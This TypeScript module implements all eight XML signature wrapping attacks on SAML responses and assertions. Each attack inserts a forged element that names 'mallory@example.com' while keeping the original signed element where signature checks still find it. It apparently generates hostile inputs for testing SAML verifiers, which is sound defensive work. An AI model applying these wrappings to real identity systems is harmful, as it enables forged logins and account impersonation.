/**
 * The eight known XML signature wrapping attacks on SAML responses. Each moves the signed element to a position where
 * its signature still finds it, and puts a forged element in its place.
 */
import { DOMParser, XMLSerializer } from "@xmldom/xmldom"

const dsig = "http://www.w3.org/2000/09/xmldsig#"
const protocol = "urn:oasis:names:tc:SAML:2.0:protocol"

const named = (within: Document | Element, name: string): Element => {
  const found = within.getElementsByTagNameNS("*", name)[0]
  if (found === undefined) throw new Error(`There is no ${name}`)
  return found
}

const childNamed = (parent: Element, name: string): Element => {
  const found = Array.from(parent.childNodes).find((node) => (node as Element).localName === name)
  if (found === undefined) throw new Error(`There is no ${name} in ${parent.localName}`)
  return found as Element
}

const removeSignature = (element: Element): Element => {
  const signature = childNamed(element, "Signature")
  element.removeChild(signature)
  return signature
}

/** Returns a copy of an element with another id and another subject. */
const forged = (element: Element): Element => {
  const copy = element.cloneNode(true) as Element
  copy.setAttribute("ID", "_forged")
  named(copy, "NameID").textContent = "mallory@example.com"
  const inner = copy.localName === "Response" ? named(copy, "Assertion") : undefined
  inner?.setAttribute("ID", "_forged_assertion")
  return copy
}

type Wrap = (document: Document, response: Element, assertion: Element) => void

/** Attacks on signed responses. */
const ofResponse: Readonly<Record<string, Wrap>> = {
  XSW1: (document, response) => {
    const evil = forged(response)
    const signature = childNamed(evil, "Signature")
    const original = response.cloneNode(true) as Element
    removeSignature(original)
    signature.appendChild(original)
    document.replaceChild(evil, response)
  },
  XSW2: (document, response) => {
    const evil = forged(response)
    const signature = childNamed(evil, "Signature")
    const original = response.cloneNode(true) as Element
    removeSignature(original)
    evil.insertBefore(original, signature)
    document.replaceChild(evil, response)
  }
}

/** Attacks on signed assertions. */
const ofAssertion: Readonly<Record<string, Wrap>> = {
  XSW3: (_document, response, assertion) => {
    const evil = forged(assertion)
    removeSignature(evil)
    response.insertBefore(evil, assertion)
  },
  XSW4: (_document, response, assertion) => {
    const evil = forged(assertion)
    removeSignature(evil)
    response.replaceChild(evil, assertion)
    evil.appendChild(assertion)
  },
  XSW5: (_document, response, assertion) => {
    const evil = forged(assertion)
    response.replaceChild(evil, assertion)
    removeSignature(assertion)
    response.appendChild(assertion)
  },
  XSW6: (_document, response, assertion) => {
    const evil = forged(assertion)
    response.replaceChild(evil, assertion)
    removeSignature(assertion)
    childNamed(evil, "Signature").appendChild(assertion)
  },
  XSW7: (document, response, assertion) => {
    const extensions = document.createElementNS(protocol, "samlp:Extensions")
    const evil = forged(assertion)
    removeSignature(evil)
    extensions.appendChild(evil)
    response.insertBefore(extensions, assertion)
  },
  XSW8: (document, response, assertion) => {
    const evil = forged(assertion)
    response.replaceChild(evil, assertion)
    removeSignature(assertion)
    const object = document.createElementNS(dsig, "Object")
    object.appendChild(assertion)
    childNamed(evil, "Signature").appendChild(object)
  }
}

export const wrappings: ReadonlyArray<readonly [name: string, signs: "response" | "assertion" | "both"]> = [
  ...Object.keys(ofResponse).flatMap((name) => [[name, "response"] as const, [name, "both"] as const]),
  ...Object.keys(ofAssertion).map((name) => [name, "assertion"] as const)
]

/** Parses a response, changes it, and serializes it. */
export const changed = (xml: string, change: Wrap): string => {
  const document = new DOMParser().parseFromString(xml, "text/xml")
  change(document, document.documentElement, named(document, "Assertion"))
  return new XMLSerializer().serializeToString(document)
}

export const wrapped = (xml: string, name: string): string => {
  const wrap = ofResponse[name] ?? ofAssertion[name]
  if (wrap === undefined) throw new Error(`There is no wrapping ${name}`)
  return changed(xml, wrap)
}
